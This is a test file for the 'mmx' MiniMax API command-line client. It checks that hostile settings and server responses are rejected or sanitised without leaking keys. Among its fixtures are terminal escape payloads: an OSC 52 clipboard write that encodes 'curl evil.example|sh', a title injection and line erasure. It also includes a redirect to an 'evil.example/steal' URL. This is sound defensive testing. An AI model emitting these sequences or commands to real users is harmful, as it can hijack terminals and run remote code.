/**
 * Hostile and broken inputs through the real entry (runCli against the
 * emulator): settings that would leak or mangle, environment faults, and what
 * the server sends back. Each case asserts what was sent (usually: nothing),
 * what the user got, and the exit code.
 */
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { EMULATOR_KEYS } from '../../src/emulator/index.js';
import { useEmulators } from '../helpers/api.js';
import { runCli, tempConfigDir } from '../helpers/run-cli.js';

const PLAIN_CN = 'http://api.minimaxi.com';
const api = useEmulators({ hosts: { [PLAIN_CN]: 'cn' } });
const env = { MINIMAX_API_KEY: EMULATOR_KEYS.cn, MINIMAX_REGION: 'cn' };

/** The JSON error object: the last line of stderr (login says what it checks first). */
const jsonError = (stderr: string) => JSON.parse(stderr.trim().split('\n').at(-1) as string).error;

function configWith(content: Record<string, unknown>): string {
  const dir = tempConfigDir();
  mkdirSync(dir, { recursive: true, mode: 0o700 });
  writeFileSync(join(dir, 'config.json'), JSON.stringify(content), { mode: 0o600 });
  return dir;
}

describe('base URLs that would leak a password or mangle paths: exit 2, nothing sent', () => {
  for (const extra of [[], ['--verbose'], ['--dry-run']]) {
    it(`--base-url with user:password@ ${extra.join(' ')}: the password is never printed`, async () => {
      const r = await runCli(['quota', '--base-url', 'https://user:hunter22@api.minimaxi.com', '--output', 'text', ...extra], { env });
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('--base-url must be an http:// or https:// URL; it carries a user name or password');
      expect(r.stdout + r.stderr).not.toContain('hunter22');
      expect(api.cn.requests).toHaveLength(0);
    });
  }

  it('auth login with such a base URL saves nothing', async () => {
    const configDir = tempConfigDir();
    const r = await runCli(['auth', 'login', '--api-key', EMULATOR_KEYS.cn, '--base-url', 'https://u:pw@api.minimaxi.com'], { configDir });
    expect(r.code).toBe(2);
    expect(existsSync(join(configDir, 'config.json'))).toBe(false);
    expect(api.cn.requests).toHaveLength(0);
  });

  it('config set base_url with a password: exit 2, not quoted back, nothing written', async () => {
    const configDir = tempConfigDir();
    const r = await runCli(['config', 'set', 'base_url', 'https://u:hunter22@gw.example'], { configDir });
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stderr).error.message).toBe(
      'Invalid value for base_url: "https://…@gw.example" (must be an http:// or https:// URL; it carries a user name or password, which would be sent and shown; a base URL takes none).',
    );
    expect(existsSync(join(configDir, 'config.json'))).toBe(false);
  });

  it.each([
    ['a query', 'https://api.minimaxi.com?x=1', 'it has a query'],
    ['a fragment', 'https://api.minimaxi.com#top', 'it has a fragment'],
  ])('MINIMAX_BASE_URL with %s: exit 2 naming it', async (_name, url, problem) => {
    const r = await runCli(['quota', '--output', 'json'], { env: { ...env, MINIMAX_BASE_URL: url } });
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stderr).error.message).toContain(`MINIMAX_BASE_URL must be an http:// or https:// URL; ${problem}`);
    expect(api.cn.requests).toHaveLength(0);
  });
});

describe('environment faults name the setting (exit 2), never "This is a bug"', () => {
  it('config base_url "http://" (no host): names the setting and the file', async () => {
    const configDir = configWith({ base_url: 'http://' });
    const r = await runCli(['quota', '--output', 'text'], { env: { MINIMAX_API_KEY: EMULATOR_KEYS.cn }, configDir });
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      `Error: config base_url must be an http:// or https:// URL (got "http://").\n  Fix or remove "base_url" in ${join(configDir, 'config.json')}.\n`,
    );
  });

  it('MINIMAX_CN_BASE_URL=garbage, for a login that probes both regions', async () => {
    const configDir = tempConfigDir();
    const r = await runCli(['auth', 'login', '--api-key', EMULATOR_KEYS.cn, '--output', 'json'], {
      env: { MINIMAX_CN_BASE_URL: 'garbage' },
      configDir,
    });
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stderr).error.message).toBe('MINIMAX_CN_BASE_URL must be an http:// or https:// URL (got "garbage").');
    expect(existsSync(join(configDir, 'config.json'))).toBe(false);
  });

  it.each([
    [
      'HTTPS_PROXY',
      'ftp://u:secret@proxy.example:21',
      /^HTTPS_PROXY names a ftp proxy \(ftp:\/\/…@proxy\.example:21\); mmx speaks http, https, socks5 and socks5h\.$/,
    ],
    ['https_proxy', 'socks4://127.0.0.1:1080', /^https_proxy names a socks4 proxy/],
    ['ALL_PROXY', 'http://u:secret@', /^ALL_PROXY (names no proxy host|is not a valid proxy URL)/],
    ['HTTPS_PROXY', 'http://[::1', /^HTTPS_PROXY is not a valid proxy URL/],
  ])('%s=%s: exit 2 naming the variable, not a network error', async (name, value, message) => {
    const r = await runCli(['quota', '--output', 'json'], { env: { ...env, [name]: value } });
    expect(r.code).toBe(2);
    const error = JSON.parse(r.stderr).error;
    expect(error.message).toMatch(message);
    expect(r.stderr).not.toContain('secret');
    expect(error.hint).toBe(
      'Write it as http://host:port or socks5h://host:port, with user:password@ before the host if the proxy needs them.',
    );
    expect(api.cn.requests).toHaveLength(0);
  });

  it('a bad proxy that NO_PROXY exempts the host from is never consulted', async () => {
    const r = await runCli(['quota', '--output', 'json'], {
      env: { ...env, NO_PROXY: 'api.minimax.cn', HTTPS_PROXY: 'ftp://proxy.example' },
    });
    expect(r.code).toBe(0);
    expect(api.cn.requests.map((q) => q.path)).toEqual(['/v1/token_plan/remains']);
  });
});

describe('a key with characters a key cannot have: exit 2 saying so, never a network error', () => {
  const BAD = 'sk-cp-abcdefgh\u0015ijklmnopqrstuvwx';
  const message = (source: string, problem: string) => `The API key from ${source} contains characters that are not allowed: ${problem}.`;

  it('from MINIMAX_API_KEY (a Ctrl-U typed into it): nothing sent', async () => {
    const r = await runCli(['quota', '--output', 'json'], { env: { MINIMAX_API_KEY: BAD, MINIMAX_REGION: 'cn' } });
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stderr).error.message).toBe(message('MINIMAX_API_KEY', 'a control character (U+0015, Ctrl-U) at position 15'));
    expect(r.stderr).not.toMatch(/proxy|network/i);
    expect(api.cn.requests).toHaveLength(0);
  });

  it('from the config file', async () => {
    const configDir = configWith({ api_key: 'sk-cp-abc\u001b[Adefghijklmnop', region: 'cn' });
    const r = await runCli(['text', 'chat', '--message', 'hi', '--output', 'json'], { configDir });
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stderr).error.message).toBe(
      message('config.json', 'an escape character (U+001B: an arrow or another special key) at position 10'),
    );
    expect(api.cn.requests).toHaveLength(0);
  });

  it('from --api-key - (stdin), a pasted non-ASCII dash: login saves nothing', async () => {
    const configDir = tempConfigDir();
    const r = await runCli(['auth', 'login', '--api-key', '-', '--region', 'cn', '--output', 'json'], {
      stdin: 'sk-cp—abcdefghijklmnop\n',
      configDir,
    });
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stderr).error.message).toBe(message('stdin (--api-key -)', 'a non-ASCII character (U+2014) at position 6'));
    expect(existsSync(join(configDir, 'config.json'))).toBe(false);
    expect(api.cn.requests).toHaveLength(0);
  });

  it('from the hidden prompt: login saves nothing', async () => {
    const configDir = tempConfigDir();
    const r = await runCli(['auth', 'login', '--region', 'cn', '--output', 'json'], {
      answer: '2', // the menu's "API key"
      secret: 'sk-cp-abc\u200bdefghijklmnop',
      stderrTTY: true,
      configDir,
    });
    expect(r.code).toBe(2);
    // stderr holds the menu, then the JSON error on its last line.
    const last = r.stderr.trimEnd().split('\n').at(-1) as string;
    expect(JSON.parse(last).error.message).toBe(message('the prompt', 'a non-ASCII character (U+200B) at position 10'));
    expect(existsSync(join(configDir, 'config.json'))).toBe(false);
  });

  it('config set api_key: nothing written', async () => {
    const configDir = tempConfigDir();
    const r = await runCli(['config', 'set', 'api_key', BAD], { configDir });
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stderr).error.message).toBe(message('the value given', 'a control character (U+0015, Ctrl-U) at position 15'));
    expect(existsSync(join(configDir, 'config.json'))).toBe(false);
  });
});

describe('a server that echoes the key: the resolved key is masked everywhere, whatever its shape or source', () => {
  // Not sk-… nor eyJ…: only knowing it as the key can mask it. runCli also fails any run that prints it.
  const ODD = 'mm-odd-shaped-key-0123456789abcdef';
  const echoing = (status: number, message: string) =>
    api.cn.setFault({ kind: 'status', status, body: { type: 'error', error: { type: 'authentication_error', message } } });
  const expectMasked = (text: string) => {
    expect(text).not.toContain(ODD);
    expect(text).toContain('…cdef');
  };

  it('from the config file, in the error (text and JSON) and in --verbose', async () => {
    for (const output of ['text', 'json']) {
      const configDir = configWith({ api_key: ODD, region: 'cn' });
      echoing(401, `invalid api key: ${ODD}`);
      const r = await runCli(['quota', '--output', output, '--verbose'], { configDir });
      expect(r.code).toBe(3);
      expectMasked(r.stderr);
      expect(api.cn.requests[0]?.key).toBe(ODD);
    }
  });

  it('read from stdin (--api-key -)', async () => {
    echoing(401, `key ${ODD} is not valid`);
    const r = await runCli(['text', 'chat', '--message', 'hi', '--api-key', '-', '--region', 'cn', '--output', 'text'], {
      stdin: `${ODD}\n`,
    });
    expect(r.code).toBe(3);
    expectMasked(r.stderr);
  });

  it('typed at the prompt (login): the error, and nothing saved', async () => {
    echoing(401, `no such key ${ODD}`);
    const r = await runCli(['auth', 'login', '--region', 'cn', '--output', 'text'], { answer: '2', secret: ODD, stderrTTY: true });
    expect(r.code).toBe(3);
    expectMasked(r.stderr);
  });

  it('auth status shows the server message masked, in text and JSON', async () => {
    for (const output of ['text', 'json']) {
      const configDir = configWith({ api_key: ODD, region: 'cn' });
      echoing(401, `rejected ${ODD}`);
      const r = await runCli(['auth', 'status', '--output', output], { configDir });
      expect(r.code).toBe(0);
      expectMasked(r.stdout);
      if (output === 'json') expect(r.json().message).toBe('API error: rejected …cdef (HTTP 401)');
    }
  });

  it('a retried failure that echoes the key: the --verbose attempt lines are masked', async () => {
    const configDir = configWith({ api_key: ODD, region: 'cn' });
    api.cn.enqueueFault({ kind: 'overloaded', message: `busy for ${ODD}` });
    const r = await runCli(['text', 'chat', '--message', 'hi', '--output', 'text', '--no-stream', '--verbose', '--max-retries', '1'], {
      configDir,
    });
    expect(r.code).toBe(3); // the emulator does not know this key
    expect(r.stderr).toContain('* attempt 1 of 2 failed (HTTP 529: busy for …cdef (2064) (529))');
    expectMasked(r.stderr);
  });

  it('config set api_key with a value the check rejects does not quote it', async () => {
    const r = await runCli(['config', 'set', 'api_key', `${ODD} extra`]);
    expect(r.code).toBe(2);
    expect(r.stderr).not.toContain(ODD);
  });
});

describe('a JWT-like key echoed by a mistyped flag is masked whole', () => {
  // Standard base64 (+ / =) as well as base64url.
  const JWT = 'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJHcm91cE5hbWUiOiJ4In0.abcDEF+/SIGNATURExyz0123==';
  it.each([[['quota', JWT]], [['quota', `--apikey=${JWT}`]], [['text', 'chat', '--mesage', JWT]], [['quota', '--region', JWT]], [[JWT]]])(
    '%j',
    async (argv) => {
      const r = await runCli([...argv, '--output', 'text'], { env: { MINIMAX_API_KEY: EMULATOR_KEYS.cn } });
      expect(r.code).toBe(2);
      expect(r.stderr).not.toContain('SIGNATURE');
      expect(r.stderr).toContain('…23==');
    },
  );
});

describe('server text shown to a person carries no control characters or escape sequences', () => {
  const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007'; // writes the clipboard
  const TITLE = '\u001b]0;pwned\u001b\\';
  const ERASE = '\r\u001b[2K\u001b[1A';
  const EVIL = `bad request${OSC52}${TITLE}${ERASE} (2013)`;
  const noControls = (text: string) => expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  const anthropicError = (status: number, message: string) =>
    api.cn.setFault({ kind: 'status', status, body: { type: 'error', error: { type: 'invalid_request_error', message } } });

  it('an error message: text mode strips it, JSON keeps the server text as received', async () => {
    anthropicError(400, EVIL);
    const text = await runCli(['text', 'chat', '--message', 'hi', '--output', 'text', '--no-stream'], { env });
    expect(text.code).toBe(1);
    expect(text.stderr).toMatch(/^Error: API error: bad request \(2013\) \(HTTP 400\)\n {2}request id: \w+\n$/);
    anthropicError(400, EVIL);
    const json = await runCli(['text', 'chat', '--message', 'hi', '--output', 'json', '--no-stream'], { env });
    expect(JSON.parse(json.stderr).error.message).toBe(`API error: ${EVIL} (HTTP 400)`);
  });

  it('an error page that is not JSON, quoted in the message', async () => {
    api.cn.setFault({ kind: 'status', status: 502, body: `<h1>down</h1>${OSC52}`, contentType: 'text/html' });
    const r = await runCli(['quota', '--output', 'text', '--max-retries', '0'], { env });
    expect(r.code).toBe(1);
    noControls(r.stderr);
    expect(r.stderr).toContain('<h1>down</h1>');
  });

  it('an error event inside a stream', async () => {
    api.cn.setFault({ kind: 'stream-error', message: `overloaded${OSC52}` });
    const r = await runCli(['text', 'chat', '--message', 'hi', '--output', 'text', '--stream'], { env });
    expect(r.code).toBe(1);
    noControls(r.stderr);
    expect(r.stderr).toContain('API error in the stream: overloaded (2064)');
  });

  it('--verbose lines (a retried failure quoting the server)', async () => {
    api.cn.enqueueFault({ kind: 'overloaded', message: `busy${TITLE}` });
    const r = await runCli(['text', 'chat', '--message', 'hi', '--output', 'text', '--no-stream', '--verbose', '--max-retries', '1'], {
      env,
    });
    expect(r.code).toBe(0);
    noControls(r.stderr);
    expect(r.stderr).toContain('* attempt 1 of 2 failed (HTTP 529: busy (2064) (529))');
  });

  it('auth status: the check line in text, the message as sent in JSON', async () => {
    api.cn.setFault({ kind: 'status', status: 401, body: { type: 'error', error: { type: 'authentication_error', message: EVIL } } });
    const text = await runCli(['auth', 'status', '--output', 'text'], { env });
    noControls(text.stdout);
    expect(text.stdout).toContain('rejected: API error: bad request (2013) (HTTP 401)');
    api.cn.setFault({ kind: 'status', status: 401, body: { type: 'error', error: { type: 'authentication_error', message: EVIL } } });
    const json = await runCli(['auth', 'status', '--output', 'json'], { env });
    expect(json.json().message).toBe(`API error: ${EVIL} (HTTP 401)`);
  });

  it('a balance amount', async () => {
    api.use('cn', { region: 'cn', balance: { available_amount: `12.50${OSC52}` } });
    const r = await runCli(['quota', '--output', 'text'], { env: { MINIMAX_API_KEY: EMULATOR_KEYS.cnPayg, MINIMAX_REGION: 'cn' } });
    expect(r.code).toBe(0);
    noControls(r.stdout);
    expect(r.stdout).toMatch(/Available\s+12\.50/);
  });

  describe("the model's answer", () => {
    const reply = { text: `Sure.${OSC52}\nDone${ERASE}!`, thinking: `hmm${TITLE}` };
    for (const stream of ['--stream', '--no-stream']) {
      it(`on a terminal (${stream}): stripped, even when a sequence is split between chunks`, async () => {
        api.use('cn', { region: 'cn', reply: () => reply, textDeltaSize: 3 });
        const r = await runCli(['text', 'chat', '--message', 'hi', '--output', 'text', stream, '--thinking'], {
          env: { ...env, CI: '1' }, // no spinner on the stderr terminal
          stdoutTTY: true,
          stderrTTY: true,
        });
        expect(r.code).toBe(0);
        expect(r.stdout).toBe('Sure.\nDone!\n');
        noControls(r.stderr.replace(/\u001b\[[0-9;]*m/g, '')); // the theme's own colours aside
        expect(r.stderr).not.toContain('pwned');
      });
      it(`to a pipe (${stream}): the answer as sent`, async () => {
        api.use('cn', { region: 'cn', reply: () => reply, textDeltaSize: 3 });
        const r = await runCli(['text', 'chat', '--message', 'hi', '--output', 'text', stream], { env });
        expect(r.stdout).toBe(`${reply.text}\n`);
      });
    }
  });
});

describe('answers that parse but are not the answer: exit 1 naming what is wrong, never success or "a bug"', () => {
  const answer = (body: unknown, status = 200) => api.cn.setFault({ kind: 'status', status, body });

  for (const body of [{}, null, [], 42, { model_remains: [] }]) {
    it(`auth login against ${JSON.stringify(body)}: not logged in, nothing saved`, async () => {
      answer(body);
      const configDir = tempConfigDir();
      const r = await runCli(['auth', 'login', '--api-key', EMULATOR_KEYS.cn, '--region', 'cn', '--output', 'text'], { configDir });
      expect(r.code).toBe(1);
      expect(r.stdout).not.toContain('Logged in');
      expect(r.stderr).toContain('Unexpected response to GET /v1/token_plan/remains: ');
      expect(r.stderr).not.toContain('This is a bug');
      expect(existsSync(join(configDir, 'config.json'))).toBe(false);
    });
  }

  it('login needs base_resp.status_code 0: its absence is named', async () => {
    answer({ model_remains: [] });
    const r = await runCli(['auth', 'login', '--api-key', EMULATOR_KEYS.cn, '--region', 'cn', '--output', 'json']);
    expect(jsonError(r.stderr).message).toBe(
      'Unexpected response to GET /v1/token_plan/remains: no base_resp with status_code 0, so it does not prove the key (got {"model_remains":[]}).',
    );
  });

  it('a pay-as-you-go key against {}: the balance shape is named', async () => {
    answer({});
    const r = await runCli(['auth', 'login', '--api-key', EMULATOR_KEYS.cnPayg, '--region', 'cn', '--output', 'json']);
    expect(r.code).toBe(1);
    expect(jsonError(r.stderr).message).toBe('Unexpected response to GET /account/query_balance: no balance amounts (got {}).');
  });

  it('auth status against {}: not authenticated, with the reason', async () => {
    answer({});
    const r = await runCli(['auth', 'status', '--output', 'json'], { env });
    expect(r.code).toBe(0);
    expect(r.json()).toMatchObject({ authenticated: false, error_code: 1 });
    expect(r.json().message).toContain('no model_remains array');
  });

  it('quota --output json against {}: exit 1, not the payload', async () => {
    answer({ base_resp: { status_code: 0, status_msg: 'success' } });
    const r = await runCli(['quota', '--output', 'json'], { env });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(jsonError(r.stderr).message).toBe(
      'Unexpected response to GET /v1/token_plan/remains: no model_remains array (got {"base_resp":{"status_code":0,"status_msg":"success"}}).',
    );
  });

  it.each<[unknown, string]>([
    [{}, 'its "type" is not "message"'],
    [null, 'expected a message object, got null'],
    [{ type: 'message', content: 'hi' }, 'no "content" array'],
    [{ type: 'message', content: [{ type: 'text' }] }, 'text block 0 has no "text" string'],
    [{ choices: [{ message: { content: 'hi' } }] }, 'its "type" is not "message"'],
  ])('text chat (JSON and text) against %j: exit 1, %s', async (body, why) => {
    for (const output of ['json', 'text']) {
      answer(body);
      const r = await runCli(['text', 'chat', '--message', 'hi', '--no-stream', '--output', output], { env });
      expect(r.code).toBe(1);
      expect(r.stdout).toBe('');
      const message = output === 'json' ? jsonError(r.stderr).message : r.stderr;
      expect(message).toContain(`Unexpected response to POST /anthropic/v1/messages: ${why}`);
      expect(r.stderr).not.toContain('This is a bug');
    }
  });
});

describe('a 3xx is an error naming the redirect, never followed', () => {
  const redirect = (status: number, location: string | undefined, body?: unknown) =>
    api.cn.setFault({ kind: 'status', status, body, headers: location === undefined ? {} : { Location: location } });

  it('quota: 302 to another host, with a JSON body that would have passed for success', async () => {
    redirect(302, 'https://evil.example/steal?token=abc', { model_remains: [], base_resp: { status_code: 0 } });
    const r = await runCli(['quota', '--output', 'json'], { env });
    expect(r.code).toBe(1);
    const error = jsonError(r.stderr);
    expect(error.message).toBe(
      'API error: the server redirected (HTTP 302) to https://evil.example/steal?token=…; mmx does not follow redirects',
    );
    expect(error.hint).toContain('use it as --base-url');
    expect(api.cn.requests).toHaveLength(1); // one request, to the API host only
  });

  it('login: 301 with a relative Location, nothing saved', async () => {
    redirect(301, '/v2/token_plan/remains');
    const configDir = tempConfigDir();
    const r = await runCli(['auth', 'login', '--api-key', EMULATOR_KEYS.cn, '--region', 'cn', '--output', 'json'], { configDir });
    expect(r.code).toBe(1);
    expect(jsonError(r.stderr).message).toContain('redirected (HTTP 301) to https://api.minimax.cn/v2/token_plan/remains');
    expect(existsSync(join(configDir, 'config.json'))).toBe(false);
  });

  it('a streamed chat: 307 without a Location', async () => {
    redirect(307, undefined);
    const r = await runCli(['text', 'chat', '--message', 'hi', '--stream', '--output', 'json'], { env });
    expect(r.code).toBe(1);
    expect(jsonError(r.stderr).message).toBe(
      'API error: the server redirected (HTTP 307) without a Location header; mmx does not follow redirects',
    );
    expect(api.cn.requests).toHaveLength(1);
  });
});

describe('a stream that starts the same block twice is malformed: exit 1 in text and JSON output', () => {
  const event = (name: string, data: unknown) => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`;
  const start = event('content_block_start', { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } });
  const delta = (text: string) =>
    event('content_block_delta', { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text } });
  const body = [
    event('message_start', {
      type: 'message_start',
      message: { id: 'm', type: 'message', role: 'assistant', model: 'MiniMax-M3', content: [], usage: {} },
    }),
    start,
    delta('first answer'),
    start,
    delta('second answer'),
    event('content_block_stop', { type: 'content_block_stop', index: 0 }),
    event('message_stop', { type: 'message_stop' }),
  ].join('');

  for (const output of ['text', 'json']) {
    it(`--output ${output}`, async () => {
      api.cn.setFault({ kind: 'status', status: 200, body, contentType: 'text/event-stream' });
      const r = await runCli(['text', 'chat', '--message', 'hi', '--stream', '--output', output], { env });
      expect(r.code).toBe(1);
      const message = 'The stream from the server is malformed: malformed "content_block_start" stream event: a second start for block 0';
      if (output === 'json') {
        expect(r.stdout).toBe('');
        expect(JSON.parse(r.stderr).error).toMatchObject({ message, partial_text: 'first answer' });
      } else {
        expect(r.stdout).toBe('first answer\n');
        expect(r.stderr).toContain(message);
      }
    });
  }
});

describe('a key sent over plain http:// to a MiniMax host', () => {
  const WARNING = `warning: the key goes to ${PLAIN_CN}, a MiniMax host, over plain http://: anyone on the way can read it. Use https://.\n`;

  it('is warned about on stderr, once, however many requests go (a retry)', async () => {
    api.host(PLAIN_CN).enqueueFault({ kind: 'overloaded' });
    const r = await runCli(['text', 'chat', '--message', 'hi', '--no-stream', '--output', 'json', '--base-url', PLAIN_CN], { env });
    expect(r.code).toBe(0);
    expect(api.host(PLAIN_CN).requests).toHaveLength(2);
    expect(r.stderr.split(WARNING)).toHaveLength(2);
  });

  it('also for a region host replaced by MINIMAX_CN_BASE_URL (login)', async () => {
    const r = await runCli(['auth', 'login', '--api-key', EMULATOR_KEYS.cn, '--region', 'cn', '--output', 'json'], {
      env: { MINIMAX_CN_BASE_URL: PLAIN_CN },
    });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(WARNING);
  });

  it('not for https, nor a dry run (nothing is sent)', async () => {
    expect((await runCli(['quota', '--output', 'json'], { env })).stderr).toBe('');
    const dry = await runCli(['quota', '--output', 'json', '--base-url', PLAIN_CN, '--dry-run'], { env });
    expect(dry.stderr).not.toContain('plain http');
  });
});
